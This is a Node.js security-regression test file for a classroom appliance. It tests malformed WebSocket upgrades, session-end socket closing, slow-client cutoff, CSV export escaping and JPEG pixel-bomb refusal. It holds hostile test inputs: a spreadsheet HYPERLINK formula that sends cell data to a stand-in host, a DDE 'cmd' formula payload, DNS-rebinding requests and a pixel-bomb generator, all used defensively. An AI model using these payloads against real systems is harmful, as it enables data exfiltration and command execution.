import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { connect as tcpConnect } from 'node:net';
import { WebSocket } from 'ws';
import { startTestAppliance, seedAccounts, ADMIN, TEACHER, type TestAppliance } from '../helpers/appliance.js';
import { ApiClient } from '../helpers/api-client.js';
import { CLI, tempDir, waitFor } from '../helpers/env.js';
import { spawnAppliance, healthy } from '../helpers/child.js';
import { connect as mqttConnect } from '../helpers/mqtt.js';
import { rawExchange, stalledWebSocket, statusLine, upgradeRequest } from '../helpers/raw-http.js';
import { parseCsv } from '../../edge/csv.js';
import { SESSION_ENDED_CLOSE_CODE } from '../../edge/api/session-watch.js';
import sharp from 'sharp';
import { jpegDimensions } from '../../edge/analysis/jpeg-stream.js';
import { FaceCounter } from '../../models/face-counter.js';
import { openPtyPair } from '../../firmware-bridge/serial/pty-pair.js';
import { Vc0706Sim } from '../../firmware-bridge/sim/vc0706-sim.js';
import type { Vc0706Camera } from '../../firmware-bridge/camera/vc0706-camera.js';
import { withDbFile } from '../helpers/sqlite.js';

/** A live socket opened like the kiosk does; `closed` resolves with the close code and reason. */
function openLive(
  httpUrl: string,
  cookie: string,
): Promise<{ ws: WebSocket; frames: { type: string }[]; closed: Promise<{ code: number; reason: string }> }> {
  return new Promise((resolve, reject) => {
    const ws = new WebSocket(`${httpUrl.replace('http', 'ws')}/api/v1/live`, { headers: { cookie } });
    const frames: { type: string }[] = [];
    const closed = new Promise<{ code: number; reason: string }>((r) =>
      ws.once('close', (code, reason) => r({ code, reason: reason.toString() })),
    );
    ws.on('message', (m) => frames.push(JSON.parse(String(m)) as { type: string }));
    ws.once('open', () => resolve({ ws, frames, closed }));
    ws.once('unexpected-response', (_req, res) => reject(new Error(`HTTP ${res.statusCode}`)));
    ws.once('error', reject);
  });
}

function httpCounters(t: TestAppliance): Record<string, number> {
  return t.appliance.http.status().counters ?? {};
}

/** Bounded: a close that does not come fails the test instead of hanging it. */
function within<T>(p: Promise<T>, ms: number, what: string): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  return Promise.race([
    p,
    new Promise<never>((_r, reject) => (timer = setTimeout(() => reject(new Error(`timed out: ${what}`)), ms))),
  ]).finally(() => clearTimeout(timer));
}

test(
  'upgrade garbage sent raw to an appliance process: each refused with a status, the process keeps serving health',
  { timeout: 120_000 },
  async () => {
    const dir = tempDir();
    const add = spawnSync(
      process.execPath,
      [CLI, 'user', 'add', TEACHER.username, '--role', 'teacher', '--data-dir', dir.path],
      { input: `${TEACHER.pin}\n`, encoding: 'utf8' },
    );
    assert.equal(add.status, 0, add.stderr);
    const app = await spawnAppliance(dir.path);
    try {
      await healthy(app, 30_000);
      const port = app.httpPort;
      const api = new ApiClient(`http://127.0.0.1:${port}`);
      await api.loginTeacher(TEACHER.username, TEACHER.pin);
      const session = api.cookie ?? '';
      const cases: { what: string; bytes: string | Buffer; status: RegExp }[] = [
        // The two one-packet kills of issue #16: the URL parser and decodeURIComponent threw.
        { what: 'GET // with upgrade headers', bytes: upgradeRequest('//'), status: /^HTTP\/1\.1 400 / },
        {
          what: 'live upgrade with Cookie: a=%',
          bytes: upgradeRequest('/api/v1/live', { Cookie: 'a=%' }),
          status: /^HTTP\/1\.1 401 /,
        },
        {
          what: 'live upgrade with a session cookie of %',
          bytes: upgradeRequest('/api/v1/live', { Cookie: 'classedge_session=%E0%A4%A' }),
          status: /^HTTP\/1\.1 401 /,
        },
        {
          what: 'absolute-form target',
          bytes: upgradeRequest('http://127.0.0.1/api/v1/live', { Cookie: session }),
          status: /^HTTP\/1\.1 400 /,
        },
        {
          what: 'protocol-relative target with a host',
          bytes: upgradeRequest('//evil.example/api/v1/live'),
          status: /^HTTP\/1\.1 400 /,
        },
        { what: '% in the path', bytes: upgradeRequest('/api/v1/live%'), status: /^HTTP\/1\.1 404 / },
        { what: 'a lone %', bytes: upgradeRequest('/%'), status: /^HTTP\/1\.1 404 / },
        {
          what: '% in the query',
          bytes: upgradeRequest('/api/v1/live?%=%&a=%zz', { Cookie: 'x=%; y' }),
          status: /^HTTP\/1\.1 401 /,
        },
        { what: 'asterisk target', bytes: upgradeRequest('*'), status: /^HTTP\/1\.1 400 / },
        { what: 'no Host header', bytes: upgradeRequest('/api/v1/live', { Host: null }), status: /^HTTP\/1\.1 400 / },
        {
          what: 'a 64 KiB header',
          bytes: upgradeRequest('/api/v1/live', { 'X-Pad': 'a'.repeat(65536) }),
          status: /^HTTP\/1\.1 431 /,
        },
        {
          what: 'a bad Sec-WebSocket-Key with a valid session',
          bytes: upgradeRequest('/api/v1/live', { Cookie: session, 'Sec-WebSocket-Key': '%%%' }),
          status: /^HTTP\/1\.1 400 /,
        },
        {
          what: 'no Sec-WebSocket-Key with a valid session',
          bytes: upgradeRequest('/api/v1/live', { Cookie: session, 'Sec-WebSocket-Key': null }),
          status: /^HTTP\/1\.1 400 /,
        },
        {
          what: 'an unknown WebSocket version',
          bytes: upgradeRequest('/api/v1/live', { Cookie: session, 'Sec-WebSocket-Version': '99' }),
          status: /^HTTP\/1\.1 (400|426) /,
        },
        {
          what: 'an upgrade to a route that is not a WebSocket',
          bytes: upgradeRequest('/api/v1/health'),
          status: /^HTTP\/1\.1 404 /,
        },
        {
          what: 'media upgrade with a bad cookie (no media component)',
          bytes: upgradeRequest('/api/v1/media?partner=1', { Cookie: 'a=%' }),
          status: /^HTTP\/1\.1 404 /,
        },
        {
          what: 'Origin that is not a URL',
          bytes: upgradeRequest('/api/v1/live', { Cookie: session, Origin: '%' }),
          status: /^HTTP\/1\.1 403 /,
        },
        {
          what: 'a Host that is not this appliance (DNS rebinding) with a valid session',
          bytes: upgradeRequest('/api/v1/live', { Cookie: session, Host: 'evil.example' }),
          status: /^HTTP\/1\.1 421 /,
        },
      ];
      for (const c of cases) {
        const answer = await rawExchange(port, c.bytes);
        assert.match(statusLine(answer), c.status, `${c.what}: got ${JSON.stringify(statusLine(answer))}`);
        assert.equal(app.child.exitCode, null, `${c.what} ended the appliance: ${app.stderr.join('')}`);
      }
      // A client that resets the connection right after its upgrade request: the socket's error
      // must have a listener (Node removes the HTTP server's on upgrade).
      for (let i = 0; i < 20; i++) {
        await new Promise<void>((resolve) => {
          const s = tcpConnect(port, '127.0.0.1', () => {
            s.write(upgradeRequest(i % 2 ? '/api/v1/live' : '//', { Cookie: i % 2 ? session : 'a=%' }));
            s.resetAndDestroy();
            resolve();
          });
          s.on('error', () => undefined);
        });
      }
      // The same tolerant cookie parser on plain HTTP routes: a broken cookie is no session, not a 500.
      const broken = await fetch(`http://127.0.0.1:${port}/api/v1/session`, {
        headers: { cookie: 'a=%; classedge_session=%' },
      });
      assert.equal(broken.status, 200);
      assert.equal(((await broken.json()) as { authenticated: boolean }).authenticated, false);
      const good = await fetch(`http://127.0.0.1:${port}/api/v1/session`, { headers: { cookie: `a=%; ${session}` } });
      assert.equal(
        ((await good.json()) as { authenticated: boolean }).authenticated,
        true,
        'a bad neighbour cookie does not hide the session',
      );
      // And the real WebSocket still works after all that.
      const live = await openLive(`http://127.0.0.1:${port}`, session);
      await waitFor(() => live.frames.some((f) => f.type === 'component.state') || undefined, 'live snapshot');
      live.ws.close();
      const h = await healthy(app);
      assert.ok(h.status);
      assert.equal(app.child.exitCode, null);
    } finally {
      app.child.kill('SIGTERM');
      await app.exited;
      dir.cleanup();
    }
  },
);

test(
  'live socket: closed with 4401 at logout, at a PIN reset, after idle expiry and when the account is disabled; no stream after the session ends',
  { timeout: 180_000 },
  async () => {
    // A teacher's session idles out after one minute here: the idle time is counted on the monotonic
    // clock in the running process (docs/security.md, clock safety), so it is waited for, not faked.
    const t = await startTestAppliance('auth: { teacherSessionIdleMinutes: 1 }', {
      http: 'webSocket: { sessionCheckSeconds: 1 }',
    });
    const open: WebSocket[] = [];
    try {
      await seedAccounts(t);
      // Logout: closed at once (the logout itself triggers the check), with the reason.
      const a = new ApiClient(t.httpUrl);
      await a.loginTeacher(TEACHER.username, TEACHER.pin);
      const l1 = await openLive(t.httpUrl, a.cookie ?? '');
      open.push(l1.ws);
      assert.equal((await a.delete('/api/v1/session')).status, 200);
      const c1 = await within(l1.closed, 10_000, 'live socket closed after logout');
      assert.equal(c1.code, SESSION_ENDED_CLOSE_CODE);
      assert.match(c1.reason, /session ended/);

      // An administrator sets a new PIN: every session of that teacher ends, and so do its sockets.
      const b = new ApiClient(t.httpUrl);
      await b.loginTeacher(TEACHER.username, TEACHER.pin);
      const l2 = await openLive(t.httpUrl, b.cookie ?? '');
      open.push(l2.ws);
      const admin = new ApiClient(t.httpUrl);
      await admin.loginAdmin(ADMIN.username, ADMIN.password);
      const l3 = await openLive(t.httpUrl, admin.cookie ?? '');
      open.push(l3.ws);
      assert.equal((await admin.put(`/api/v1/users/${TEACHER.username}/secret`, { secret: '739154' })).status, 200);
      const c2 = await within(l2.closed, 10_000, 'live socket closed after a PIN reset');
      assert.equal(c2.code, SESSION_ENDED_CLOSE_CODE);
      assert.equal(l3.ws.readyState, WebSocket.OPEN, "the admin's own socket is not touched");

      // Idle expiry: no request for longer than teacherSessionIdleMinutes (an open socket is not
      // activity); the periodic check closes the socket.
      const c = new ApiClient(t.httpUrl);
      await c.loginTeacher(TEACHER.username, '739154');
      const l4 = await openLive(t.httpUrl, c.cookie ?? '');
      open.push(l4.ws);
      const c4 = await within(l4.closed, 90_000, 'live socket closed after idle expiry');
      assert.equal(c4.code, SESSION_ENDED_CLOSE_CODE);
      assert.match(c4.reason, /expired/);
      // And the socket of an expired session gets nothing more.
      const before = l4.frames.length;
      const dev = await admin.post('/api/v1/devices', { id: 'after-expiry', kind: 'sensor' });
      const m = await mqttConnect(t.mqttUrl, { username: dev.body.mqtt.username, password: dev.body.mqtt.password });
      await m.publishAsync('classedge/dev/after-expiry/reading', '{"metrics":{"co2_ppm":700}}', { qos: 1 });
      await m.endAsync();
      await waitFor(() => l3.frames.some((f) => f.type === 'reading') || undefined, 'the admin still streams');
      assert.equal(l4.frames.length, before);
      // An account disabled in the database (as the account tools do) loses its sockets at the next check.
      const d = new ApiClient(t.httpUrl);
      await d.loginTeacher(TEACHER.username, '739154');
      const l5 = await openLive(t.httpUrl, d.cookie ?? '');
      open.push(l5.ws);
      withDbFile(
        t.dataDir,
        (db) => db.prepare('UPDATE users SET disabled = 1 WHERE username = ?').run(TEACHER.username),
        { write: true },
      );
      const c5 = await within(l5.closed, 10_000, 'live socket closed after the account was disabled');
      assert.equal(c5.code, SESSION_ENDED_CLOSE_CODE);
      assert.match(c5.reason, /account disabled/);
      assert.ok((httpCounters(t).wsClosedForSession ?? 0) >= 4);
    } finally {
      for (const ws of open) ws.terminate();
      await t.stop();
    }
  },
);

test(
  'live socket: a client that stops reading is disconnected once http.webSocket.maxBufferedBytes is unsent; others keep streaming',
  { timeout: 120_000 },
  async () => {
    const t = await startTestAppliance('', { http: 'webSocket: { maxBufferedBytes: 65536 }' });
    let stalled: Awaited<ReturnType<typeof stalledWebSocket>> | undefined;
    let reader: Awaited<ReturnType<typeof openLive>> | undefined;
    let dev: Awaited<ReturnType<typeof mqttConnect>> | undefined;
    try {
      await seedAccounts(t);
      const admin = new ApiClient(t.httpUrl);
      await admin.loginAdmin(ADMIN.username, ADMIN.password);
      const port = Number(new URL(t.httpUrl).port);
      stalled = await stalledWebSocket(port, '/api/v1/live', { Cookie: admin.cookie ?? '' });
      reader = await openLive(t.httpUrl, admin.cookie ?? '');
      await waitFor(() => (httpCounters(t).liveClients === 2 ? true : undefined), 'two live clients');
      const creds = (await admin.post('/api/v1/devices', { id: 'noisy', kind: 'sensor' })).body.mqtt;
      dev = await mqttConnect(t.mqttUrl, { username: creds.username, password: creds.password });
      // Every refused message is an admin event on /live. The kernel's socket buffers take a few
      // MB first; the appliance's own buffer then grows until the limit cuts the client off.
      const payload = JSON.stringify({ metrics: { [`m${'x'.repeat(2000)}`]: 1 } });
      let sent = 0;
      while ((httpCounters(t).liveSlowClosed ?? 0) === 0) {
        assert.ok(sent < 60_000, `no disconnect after ${sent} events`);
        for (let i = 0; i < 200; i++) dev.publish('classedge/dev/noisy/reading', payload, { qos: 0 });
        sent += 200;
        await waitFor(() => (reader!.frames.length > 0 ? true : undefined), 'reader frames');
        await new Promise((r) => setTimeout(r, 20));
      }
      assert.equal(httpCounters(t).liveSlowClosed, 1);
      await waitFor(() => (httpCounters(t).liveClients === 1 ? true : undefined), 'the stalled client dropped');
      assert.equal(reader.ws.readyState, WebSocket.OPEN, 'the client that reads stays');
      // The stalled socket, read at last, ends: the appliance closed it.
      stalled.socket.resume();
      await within(stalled.closed, 20_000, 'stalled socket closed by the appliance');
      assert.ok(t.logs.some((l) => l.includes('live client stopped reading')));
    } finally {
      stalled?.socket.destroy();
      reader?.ws.terminate();
      await dev?.endAsync(true);
      await t.stop();
    }
  },
);

test(
  'CSV export: roster names that are spreadsheet formulas come out as text (leading quote), through the real export route',
  { timeout: 60_000 },
  async () => {
    const t = await startTestAppliance();
    try {
      await seedAccounts(t);
      const admin = new ApiClient(t.httpUrl);
      await admin.loginAdmin(ADMIN.username, ADMIN.password);
      // Roster names are at most 40 characters: still room for a formula that sends data away.
      const hostile = [
        '=HYPERLINK("http://e.vil/?"&A1,"成绩")',
        '+86-10-1234',
        '-1+2',
        '@SUM(A1:A9)',
        "=cmd|' /C calc'!A0",
      ];
      const q = (s: string): string => `"${s.replace(/"/g, '""')}"`;
      const rows = hostile.map((name, i) => `g1c1,一年级(1)班,2026${String(i + 1).padStart(3, '0')},${q(name)},,`);
      const csv = `class_id,class_name,student_no,name,card_id,guardian_phone\n${rows.join('\n')}\n`;
      const imp = await admin.post('/api/v1/health/roster', { csvBase64: Buffer.from(csv).toString('base64') });
      assert.equal(imp.status, 200, JSON.stringify(imp.body));
      const res = await fetch(`${t.httpUrl}/api/v1/health/report.csv`, { headers: { cookie: admin.cookie ?? '' } });
      assert.equal(res.status, 200);
      const table = parseCsv((await res.text()).replace(/^\uFEFF/, ''));
      const header = table[0]?.fields ?? [];
      const nameCol = header.indexOf('name');
      assert.ok(nameCol >= 0);
      const names = table.slice(1).map((r) => r.fields[nameCol] ?? '');
      assert.equal(names.length, hostile.length);
      for (const name of hostile) assert.ok(names.includes(`'${name}`), `${name} exported as ${JSON.stringify(names)}`);
      for (const r of table)
        for (const cell of r.fields)
          assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)} would be a formula`);
    } finally {
      await t.stop();
    }
  },
);

/** A real small JPEG whose frame header (SOF) is patched to declare width × height pixels. */
async function pixelBomb(width: number, height: number): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#808080' } })
    .jpeg()
    .toBuffer();
  const sof = jpegDimensions(jpeg);
  assert.ok(typeof sof !== 'string', String(sof));
  jpeg.writeUInt16BE(height, sof.at + 5);
  jpeg.writeUInt16BE(width, sof.at + 7);
  assert.deepEqual(jpegDimensions(jpeg), { width, height, at: sof.at });
  return jpeg;
}

test(
  'pixel bomb: a JPEG under 1 KiB declaring 16000×16000 from a camera device (MQTT), the serial camera and straight to the decoder is refused by its dimensions; memory stays',
  { timeout: 120_000 },
  async () => {
    const bomb = await pixelBomb(16000, 16000);
    assert.ok(bomb.length < 1024);
    const rssBefore = process.memoryUsage().rss;
    // The decoder itself (the vision worker's FaceCounter): refused from the header, nothing decoded.
    // The model session is never reached, so none is loaded.
    const counter = new FaceCounter(undefined as never, {
      minFacePx: 24,
      maxFaceFraction: 0.3,
      scoreThreshold: 0.2,
      screenThreshold: 0.3,
      verifyThreshold: 0.7,
      maxFramePixels: 3840 * 2160,
    });
    await assert.rejects(
      counter.detect(bomb),
      (e: Error) =>
        e instanceof RangeError &&
        /16000×16000 = 256000000 pixels; at most 8294400 \(analysis\.vision\.maxFramePixels\)/.test(e.message),
    );

    const pty = await openPtyPair();
    const sim = new Vc0706Sim();
    await sim.listen(pty.b, 115200);
    sim.picture = bomb;
    const t = await startTestAppliance(
      `timetable: { lessons: [] }\ncomponents:\n  - { type: camera-vc0706, name: cam, port: ${JSON.stringify(pty.a)}, baudRate: 115200, imageSize: 320x240, everySeconds: 300, chunkBytes: 4096 }\n`,
    );
    let dev: Awaited<ReturnType<typeof mqttConnect>> | undefined;
    try {
      await seedAccounts(t);
      t.appliance.analysis.startLesson('test');
      // Over MQTT from a camera node: refused by the broker, the device told why, the refusal counted.
      const admin = new ApiClient(t.httpUrl);
      await admin.loginAdmin(ADMIN.username, ADMIN.password);
      const creds = (await admin.post('/api/v1/devices', { id: 'cam-node', kind: 'camera' })).body.mqtt;
      dev = await mqttConnect(t.mqttUrl, { username: creds.username, password: creds.password });
      const reasons: string[] = [];
      dev.on('message', (_topic, payload) => reasons.push(String(payload)));
      await dev.subscribeAsync('classedge/dev/cam-node/rejected');
      const rejectedBefore = t.appliance.broker.status().counters?.rejected ?? 0;
      await dev.publishAsync('classedge/dev/cam-node/snapshot', bomb, { qos: 1 });
      const reason = await waitFor(() => reasons.find((r) => r.includes('16000×16000')), 'the device told why');
      assert.match(
        reason,
        /snapshot: byte \d+: the frame header declares 16000×16000 = 256000000 pixels; at most 8294400 \(analysis\.vision\.maxFramePixels\)/,
      );
      assert.equal(t.appliance.broker.status().counters?.rejected, rejectedBefore + 1);

      // The serial camera module hands over the same picture: refused, named, counted, degraded.
      const cam = t.appliance.registry.get('cam') as Vc0706Camera;
      assert.equal(await cam.snap(), undefined);
      assert.equal(cam.status().state, 'degraded');
      assert.match(cam.status().detail ?? '', /16000×16000/);
      assert.equal(cam.status().counters?.errors, 1);

      // Any other path into the analyser (ffmpeg) meets the same check before the worker.
      t.appliance.analysis.submitFrame('direct', bomb);
      assert.equal(t.appliance.analysis.status().counters?.framesRejected, 1);
      assert.equal(t.appliance.analysis.status().counters?.framesAnalysed, 0);

      assert.equal((await fetch(`${t.httpUrl}/api/v1/health`)).status, 200);
      // 16000×16000 RGB would be 768 MB: nothing near that was allocated.
      assert.ok(
        process.memoryUsage().rss - rssBefore < 200 * 1024 * 1024,
        `RSS grew by ${process.memoryUsage().rss - rssBefore} bytes`,
      );
    } finally {
      await dev?.endAsync(true);
      await t.stop();
      await sim.close();
      await pty.close();
    }
  },
);
